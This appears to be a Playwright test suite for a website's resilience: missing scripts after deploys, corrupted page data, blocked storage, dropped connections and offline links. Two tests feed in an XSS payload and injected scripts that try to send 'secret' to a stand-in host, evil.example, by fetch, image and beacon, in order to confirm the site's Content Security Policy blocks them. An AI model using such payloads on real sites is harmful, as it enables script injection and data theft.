import { once } from "node:events"
import { createServer, type ServerResponse } from "node:http"
import type { AddressInfo } from "node:net"
import { expect, type Locator, type Page } from "@playwright/test"
import { countryPath } from "../../../src/site/entryPaths"
import { plainHeadline } from "../../../src/site/plainHeadline"
import { greetingFor } from "../../../src/site/visitor/greetingFor"
import {
  anyChunkFailure,
  anyCountry,
  anyServicePath,
  chunkFailure,
  footerPage,
  forms,
  greetings,
  headerPage,
  labels,
  posts,
  withoutScript,
} from "../../support/siteContent"
import {
  answerMailWith,
  buttonOf,
  fieldOf,
  fillIn,
  formOf,
  geoAddress,
  open,
  places,
  reload,
  settled,
  test,
  texts,
} from "../enquiries/visitor"
import { footerLink, headerLink, headingAt, linkTo, loadedOnUse } from "../support"

// Each row of the matrix: what breaks, what the visitor sees, and that no text is lost.

const message = (page: Page) => fieldOf(page, "contact", "message")

const typed = String(texts.contact.message)

const keepsWhatWasTyped = (page: Page) => expect(message(page)).toHaveValue(typed)

/** Sends a form, expects its success, and returns what was posted. */
const send = async (page: Page, name: "contact" | "enquiry") => {
  const bodies = await answerMailWith(page, 200)
  await buttonOf(page, name).click()
  await expect(page.getByText(forms[name].success, { exact: true }).first()).toBeVisible()
  return bodies
}

/** Fills a form in and sends it. */
const fillInAndSend = async (page: Page, name: "contact" | "enquiry") => {
  await fillIn(page, name)
  return send(page, name)
}

/** The errors that scripts throw. */
const errorsOf = (page: Page) => {
  const errors: string[] = []
  page.on("pageerror", ({ message: text }) => errors.push(text))
  return errors
}

/** How often the page is loaded from now on. */
const countLoads = (page: Page) => {
  const state = { loads: 0 }
  page.on("load", () => {
    state.loads += 1
  })
  return state
}

/** Does what loads a page in full, and waits until it is loaded. */
const inFull = async (page: Page, act: () => Promise<unknown>) => {
  const loaded = page.waitForEvent("load")
  await act()
  await loaded
}

const reloadButton = (page: Page) => page.getByRole("button", { name: labels.errors.reload })

/** Opens the contact page and fills in its form. */
const typeIn = async (page: Page) => {
  await open(page, places.contact)
  await fillIn(page, "contact")
}

/** Types into the message before the page's scripts run, as often as they are loaded. */
const typeEarly = (page: Page, act: () => Promise<unknown> = async () => undefined) =>
  page.route(/\/js\/app\./, async (route) => {
    await message(page).fill(typed)
    await act()
    return route.continue()
  })

/** Answers like a host without the files of an earlier build, until told otherwise. */
const deploy = (page: Page, gone: RegExp | string, times = Number.POSITIVE_INFINITY) =>
  page.route(gone, (route) => route.fulfill({ status: 404, contentType: "text/html", body: "gone" }), { times })

/** The script name of a policy or service page. */
const componentOf = (address: string) =>
  `component---src-templates-${address.startsWith("/services/") ? "service" : "policy"}-tsx`

/** Answers the next request for the site's data with the hash of a newer build than this tab's. */
const markAsNewBuild = (page: Page) =>
  page.route(
    "**/app-data.json",
    async (route) => {
      const answer = await route.fetch()
      const data = await answer.json()
      return route.fulfill({ response: answer, json: { ...data, webpackCompilationHash: "0123456789abcdef0123" } })
    },
    { times: 1 },
  )

test("in an old tab after a new deploy a link to what is no longer there loads its page in full, and nothing typed is lost", async ({
  page,
}) => {
  const itsScript = chunkFailure(componentOf(footerPage))
  await typeIn(page)
  for (const [breakNext, shows] of [
    [() => markAsNewBuild(page), ""],
    [() => deploy(page, `**/page-data${footerPage}/page-data.json`, 1), ""],
    // Still missing after the automatic reload.
    [() => deploy(page, new RegExp(`${componentOf(footerPage)}.*[.]js$`)), itsScript],
  ] as const) {
    await breakNext()
    await inFull(page, () => footerLink(page, footerPage).click())
    await expect(page).toHaveURL(footerPage)
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(headingAt(footerPage))
    if (shows) await expect(page.getByText(shows)).toBeVisible()
    await open(page, places.contact)
    await keepsWhatWasTyped(page)
  }
})

test("a carousel whose script is gone stays a list that scrolls, arrows included", async ({ page }) => {
  test.skip(posts.filter(({ featured }) => featured).length < 2, "a single featured post has no other to scroll to")
  // The carousel's script has no fixed name, so everything that loads after the page itself is missing.
  await open(page, "/about-us")
  await deploy(page, /\.chunk\.js$/)
  const carousel = page.getByRole("group", { name: plainHeadline(labels.reading.featured), exact: true })
  await carousel.scrollIntoViewIfNeeded()
  await expect(carousel.getByRole("listitem").first()).toBeVisible()
  const list = carousel.getByRole("list").first()
  await page.setViewportSize({ width: 420, height: 800 })
  await carousel.getByRole("button", { name: new RegExp(`^${labels.carousel.next.split("{")[0]}`) }).click()
  await expect.poll(() => list.evaluate((element) => element.scrollLeft)).toBeGreaterThan(0)
})

/** The background of the box, fixed to the window, that a text is in. */
const groundOf = (text: Locator) =>
  text.evaluate((element) => {
    let box = element
    while (box.parentElement && getComputedStyle(box).position !== "fixed") box = box.parentElement
    return getComputedStyle(box).backgroundColor
  })

test.describe("a script that is missing", () => {
  test("the page reloads by itself, then says so with a button and does not reload in a loop; once it is there, it works", async ({
    page,
  }) => {
    const counter = countLoads(page)
    await deploy(page, loadedOnUse.script)
    await typeIn(page)
    for (const load of [1, 2]) {
      await expect.poll(() => counter.loads).toBe(load)
      await settled(page)
      await loadedOnUse.use(page)
    }
    await expect(page.getByText(anyChunkFailure)).toBeVisible()
    // It lies over the page, whose text must not shine through.
    expect(await groundOf(page.getByText(anyChunkFailure))).not.toBe("rgba(0, 0, 0, 0)")
    await keepsWhatWasTyped(page)
    expect(counter.loads).toBe(2)
    await page.unroute(loadedOnUse.script)
    await inFull(page, () => reloadButton(page).click())
    await settled(page)
    await keepsWhatWasTyped(page)
    await loadedOnUse.use(page)
    await expect(loadedOnUse.shown(page)).toBeVisible()
  })

  test("of the page itself, once: it reloads by itself and is hydrated", async ({ page }) => {
    for (const script of ["component---src-pages-contact-us", "app."]) {
      let asked = 0
      page.on("request", (request) => {
        if (request.url().includes(`/js/${script}`)) asked += 1
      })
      await deploy(page, new RegExp(`/js/${script}.*\\.js$`), 1)
      await open(page, places.contact)
      expect(asked).toBe(2)
      await fillInAndSend(page, "contact")
      // Otherwise it does not reload again in this visit.
      await page.evaluate(() => sessionStorage.clear())
    }
  })

  test("of the page itself, after something was typed: it says so, and reloads only on a click", async ({ page }) => {
    await deploy(page, /\/js\/component---src-pages-contact-us.*\.js$/)
    await typeEarly(page)
    await page.goto(places.contact)
    await expect(page.getByRole("alert")).toContainText(chunkFailure("component---src-pages-contact-us-tsx"))
    await keepsWhatWasTyped(page)
    await inFull(page, () => reloadButton(page).click())
  })

  test("whatever loads after the page itself: a link leads to its page all the same, with its title", async ({
    page,
  }) => {
    await page.goto("/")
    await page.waitForFunction(() => window.isHydrated)
    const title = await page.title()
    await deploy(page, /\/static\/js\/.*\.chunk\.js$/)
    await footerLink(page, footerPage).click()
    await expect(page).toHaveURL(footerPage)
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(headingAt(footerPage))
    await expect(page).not.toHaveTitle(title)
    await expect(page.getByRole("alert")).toHaveCount(0)
  })

  test("all of the site's own: the page is complete, nothing waits, links work, and what is typed is there on return", async ({
    page,
  }) => {
    await page.route(/\/static\/js\//, (route) => route.abort())
    await page.goto("/")
    await expect(page.getByRole("alert")).toContainText(anyChunkFailure)
    await expect(page.getByText(greetings.unknown)).toBeHidden()
    await page.goto(places.contact)
    await expect(page.getByRole("alert")).toContainText(anyChunkFailure)
    await expect(reloadButton(page)).toBeVisible()
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
    await expect(formOf(page, "contact").getByText(withoutScript)).toBeVisible()
    await message(page).fill(typed)
    await buttonOf(page, "contact").click()
    await keepsWhatWasTyped(page)
    expect(new URL(page.url()).pathname).toBe(places.contact)
    await footerLink(page, footerPage).click()
    await expect(page).toHaveURL(footerPage)
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
    await page.unroute(/\/static\/js\//)
    await open(page, places.contact)
    await keepsWhatWasTyped(page)
  })
})

test("the data of all pages missing: the static HTML stays, and can be read", async ({ page }) => {
  await page.route(/page-data\//, (route) => route.abort())
  await page.goto("/privacy-policy")
  await page.waitForFunction(() => window.isHydrated)
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(headingAt("/privacy-policy"))
  await expect(page.getByRole("contentinfo")).toBeVisible()
})

/** Makes the use of something throw, as browsers do that refuse it. */
const refuse = (page: Page, owner: "window" | "document", names: readonly string[]) =>
  page.addInitScript(
    ([holder, refused]) => {
      const deny = () => {
        throw new DOMException("denied", "SecurityError")
      }
      for (const name of refused)
        Object.defineProperty(holder === "window" ? window : document, name, { get: deny, set: deny })
    },
    [owner, names] as const,
  )

test("storage blocked: pages and forms work", async ({ page }) => {
  await refuse(page, "window", ["localStorage", "sessionStorage", "indexedDB", "caches"])
  const errors = errorsOf(page)
  await typeIn(page)
  await answerMailWith(page, 500)
  await buttonOf(page, "contact").click()
  await expect(page.getByText(forms.contact.failure)).toBeVisible()
  await keepsWhatWasTyped(page)
  await send(page, "contact")
  await footerLink(page, footerPage).click()
  await expect(page).toHaveURL(footerPage)
  await linkTo(page.getByRole("banner"), "/").click()
  await expect(page.getByText(greetingFor("Ireland", false, greetings))).toBeVisible()
  await page.keyboard.press("/")
  await expect(page.getByRole("dialog", { name: labels.search.title })).toBeVisible()
  expect(errors).toEqual([])
})

test("pictures, cookies and everything from other sites blocked: the page is complete, and its form sends", async ({
  page,
  context,
  baseURL,
}) => {
  const own = new URL(baseURL ?? "").origin
  await page.unroute(geoAddress)
  await refuse(page, "document", ["cookie"])
  await page.route(
    ({ origin, pathname }) => origin !== own || /\.(?:webp|avif|jpe?g|png)$/.test(pathname),
    (route) => route.abort("blockedbyclient"),
  )
  const errors = errorsOf(page)
  await open(page, anyServicePath)
  await expect(page.getByRole("main").locator("img").first()).toHaveAttribute("alt", /\S/)
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
  await fillInAndSend(page, "enquiry")
  expect(errors).toEqual([])
  expect(await context.cookies()).toEqual([])
})

type Data = Record<string, unknown>

/** The data in the HTML of a page (`PageData`). */
interface InlinedData {
  results: Record<string, { data: Data }>
}

/** Changes the HTML of a page on its way. */
const rewrite = (page: Page, path: string, change: (html: string) => string) =>
  page.route(path, async (route) => {
    const answer = await route.fetch()
    return route.fulfill({ response: answer, body: change(await answer.text()) })
  })

/** The HTML of a page with changed data in it. */
const withData = (html: string, change: (data: InlinedData) => void) =>
  html.replace(/(?<=<script id="_page-data"[^>]*>)(.*?)(?=<\/script>)/, (text) => {
    const data = JSON.parse(text) as InlinedData
    change(data)
    return JSON.stringify(data).replaceAll("<", "\\u003c")
  })

const withoutLabels = (html: string) =>
  withData(html, ({ results }) => {
    for (const { data } of Object.values(results)) if (data.labels) data.labels = null
  })

test("an error in a section and in the footer: they alone say so, and the form beside them sends", async ({ page }) => {
  /** Results of queries that load with the code of islands. */
  const spoilt: Readonly<Record<string, Data>> = {
    testimonials: { heading: "x", kicker: "y", items: [null] },
    offices: {},
  }
  const seen: string[] = []
  await page.route("**/page-data/sq/d/*.json", async (route) => {
    const answer = await route.fetch()
    const { data } = (await answer.json()) as { data: Data }
    const names = Object.keys(data).filter((name) => name in spoilt)
    seen.push(...names)
    const changes = Object.fromEntries(names.map((name) => [name, spoilt[name]]))
    return route.fulfill({ response: answer, json: { data: { ...data, ...changes } } })
  })
  await open(page, "/")
  await page.keyboard.press("End")
  await expect(page.getByText(labels.errors.section)).toHaveCount(2)
  await expect(page.getByRole("contentinfo")).toHaveCount(0)
  expect(seen.toSorted()).toEqual(Object.keys(spoilt).toSorted())
  for (const section of ["how-it-works", "faqs", "subscription"])
    await expect(page.locator(`#${section}`)).toBeVisible()
  await fillInAndSend(page, "enquiry")
})

test.describe("page content corrupted in transit", () => {
  const otherWays = (page: Page) => formOf(page, "contact").getByText(withoutScript)

  const failureBanner = (page: Page) => page.getByRole("alert").getByText(chunkFailure("page-data"))

  for (const [kind, details, spoil] of [
    ["data of nothing", {}, (html) => withData(html, (data) => Object.assign(data, { results: {} }))],
    ["data without its labels", { tag: "@further" }, withoutLabels],
    ["HTML that ends in its data", {}, (html) => html.slice(0, html.indexOf('"componentChunkName"'))],
    [
      "HTML that ends before its data",
      { tag: "@further" },
      (html) => html.slice(0, html.indexOf('<script id="_page-data"')),
    ],
  ] satisfies [kind: string, details: object, spoil: (html: string) => string][])
    test(`${kind}, twice: the page loads again, says so, and keeps what was typed`, details, async ({ page }) => {
      const results = "**/page-data/sq/d/*.json"
      const counter = countLoads(page)
      await deploy(page, results)
      await rewrite(page, places.contact, spoil)
      await page.goto(places.contact)
      await expect(failureBanner(page)).toBeVisible()
      expect(counter.loads).toBe(2)
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
      await expect(otherWays(page)).toBeVisible()
      await message(page).fill(typed)
      await page.unroute(places.contact)
      await page.unroute(results)
      await reloadButton(page).click()
      await settled(page)
      await keepsWhatWasTyped(page)
    })

  test("data without labels, after something was typed: it stays, without a reload", async ({ page }) => {
    await rewrite(page, places.contact, withoutLabels)
    await typeEarly(page)
    await page.goto(places.contact)
    await expect(failureBanner(page)).toBeVisible()
    await keepsWhatWasTyped(page)
    await expect(otherWays(page)).toBeVisible()
  })

  test("the page's own data, unreadable in its HTML: they are fetched, and the form sends", async ({ page }) => {
    await rewrite(page, places.contact, (html) => html.replace(/(<script id="_page-data"[^>]*>)/, "$1{"))
    await open(page, places.contact)
    await fillInAndSend(page, "contact")
  })
})

test("a country service that answers markup, and 5 MB, changes nothing", async ({ page }) => {
  test.skip(!anyCountry, "no page is about one country")
  const lines: string[] = []
  page.on("console", (line) => lines.push(line.text()))
  await page.route(geoAddress, (route) =>
    route.fulfill({ json: { country: "<img src=x onerror=window.attacked=1>", rest: "x".repeat(5_000_000) } }),
  )
  await open(page, countryPath({ slug: String(anyCountry?.slug) }))
  await expect.poll(() => lines.filter((line) => line.includes("Unable to fetch location."))).toHaveLength(1)
  await expect(page.getByText(greetings.neutral)).toBeVisible()
  await expect(page.getByRole("heading", { level: 1 })).toContainText(String(anyCountry?.name))
  expect(await page.evaluate(() => "attacked" in window)).toBe(false)
})

test("a mail service that is down for an hour: the text waits, through a closed tab too, and is sent once", async ({
  page,
  context,
}) => {
  await page.clock.install()
  const refused = await answerMailWith(page, 503)
  await typeIn(page)
  for (let attempt = 1; attempt <= 3; attempt++) {
    await buttonOf(page, "contact").click()
    await expect.poll(() => refused).toHaveLength(attempt)
    await expect(page.getByText(forms.contact.failure)).toBeVisible()
    await keepsWhatWasTyped(page)
    await page.clock.fastForward("20:00")
  }
  await page.close()

  const later = await context.newPage()
  await open(later, places.contact)
  await keepsWhatWasTyped(later)
  const taken = await send(later, "contact")
  await reload(later)
  await expect(message(later)).toHaveValue("")
  expect(taken).toHaveLength(1)
})

for (const [kind, now, details] of [
  ["years behind", "1999-12-31T23:59:59Z", {}],
  ["years ahead", "2098-01-01T00:00:00Z", { tag: "@further" }],
] as const)
  test(`a clock that is ${kind}: the forms send, and earlier text comes back`, details, async ({ page }) => {
    await page.clock.setFixedTime(new Date(now))
    await open(page, "/")
    await fillIn(page, "enquiry")
    await reload(page)
    await expect(fieldOf(page, "enquiry", "name")).toHaveValue(String(texts.enquiry.name))
    await formOf(page, "enquiry").getByRole("checkbox").check()
    await send(page, "enquiry")
  })

test("what a proxy injects is not run, nor reaches other sites, and the page works", async ({ page }) => {
  const evil = "https://evil.example/"
  const injected =
    `<script>window.attacked = "by a script"</script><script async src="${evil}x.js"></script>` +
    `<img src="x" onerror="window.attacked = 'by a handler'"><iframe src="${evil}"></iframe>`
  const counter = countLoads(page)
  const errors = errorsOf(page)
  const said: string[] = []
  page.on("console", (line) => said.push(line.text()))
  // Without the policy, each request would be answered.
  await page.route(`${evil}**`, (route) =>
    route.fulfill({ body: "window.attacked = 1", headers: { "access-control-allow-origin": "*" } }),
  )
  await rewrite(page, places.contact, (html) => html.replace("</body>", `${injected}</body>`))
  await typeEarly(page, () =>
    expect.poll(() => said.filter((line) => line.includes("Content Security Policy")).length).toBeGreaterThan(3),
  )
  await open(page, places.contact)
  await keepsWhatWasTyped(page)
  await expect(page.getByRole("alert").filter({ visible: true })).toHaveCount(0)
  const stopped = await page.evaluate(async (site) => {
    const directives: string[] = []
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      directives.push(effectiveDirective),
    )
    const answer = await fetch(`${site}?typed=secret`).then(
      (taken) => taken.text(),
      () => "stopped",
    )
    const image = new Image()
    const shown = new Promise((resolve) => {
      image.onload = image.onerror = resolve
    })
    image.src = `${site}picture?typed=secret`
    await shown
    navigator.sendBeacon(`${site}beacon`, "secret")
    await new Promise((resolve) => setTimeout(resolve))
    return [answer, ...directives]
  }, evil)
  expect(stopped).toEqual(["stopped", "connect-src", "img-src", "connect-src"])
  expect(await page.evaluate(() => "attacked" in window)).toBe(false)
  expect(counter.loads).toBe(1)
  expect(errors).toEqual([])
})

test("a page reported as failed that is hydrated after all keeps its content, text included", async ({ page }) => {
  const errors = errorsOf(page)
  await typeEarly(page, () => page.evaluate(() => dispatchEvent(new CustomEvent("loadfailure", { detail: "app" }))))
  await open(page, places.contact)
  await keepsWhatWasTyped(page)
  await fillInAndSend(page, "contact")
  expect(errors).toEqual([])
})

/** A server that sends each page up to a point and then stalls; `drop` closes its connections. */
const breakOff = async (end: string) => {
  const html = Buffer.from(await (await fetch(`${test.info().project.use.baseURL}${places.contact}`)).arrayBuffer())
  const state = { asked: 0 }
  const open: ServerResponse[] = []
  const server = createServer(({ url }, response) => {
    if (url !== places.contact) return response.writeHead(404).end()
    state.asked += 1
    open.push(response)
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "content-length": html.length })
    return response.write(html.subarray(0, html.indexOf(end)))
  }).listen(0)
  await once(server, "listening")
  const { port } = server.address() as AddressInfo
  const drop = () => {
    for (const response of open.splice(0)) response.destroy()
  }
  return { state, address: `http://localhost:${port}${places.contact}`, drop, close: () => server.close() }
}

for (const [end, details] of [
  ["</main>", {}],
  ['<script id="_page-data"', { tag: "@further" }],
] as const)
  test(
    `a connection that drops at ${end}: the page reloads, then says so and how else to get in touch`,
    details,
    async ({ page }) => {
      const broken = await breakOff(end)
      await page.clock.install()
      await page.goto(broken.address, { waitUntil: "commit" })
      await expect(message(page)).toBeVisible()
      broken.drop()
      const again = page.waitForEvent("framenavigated")
      await page.clock.runFor(12_000)
      await again
      await expect(message(page)).toBeVisible()
      broken.drop()
      await message(page).fill(typed)
      await page.clock.runFor(12_000)
      await expect(page.getByText(chunkFailure("page-data"))).toBeVisible()
      await expect(formOf(page, "contact").getByText(withoutScript)).toBeVisible()
      await keepsWhatWasTyped(page)
      expect(broken.state.asked).toBe(2)
      broken.close()
    },
  )

test("without a connection a link says why it does not leave the page, and one to a page that was open before opens it", async ({
  page,
  context,
}) => {
  await typeIn(page)
  await headerLink(page, headerPage).click()
  await expect(page).toHaveURL(headerPage)
  await page.goBack()
  await keepsWhatWasTyped(page)
  await context.setOffline(true)
  await footerLink(page, footerPage).click()
  await expect(page.getByText(labels.errors.offline)).toBeVisible()
  await expect(page).toHaveURL(/\/contact-us$/)
  await keepsWhatWasTyped(page)
  await headerLink(page, headerPage).click()
  await expect(page).toHaveURL(headerPage)
  await context.setOffline(false)
  await footerLink(page, footerPage).click()
  await expect(page).toHaveURL(footerPage)
})
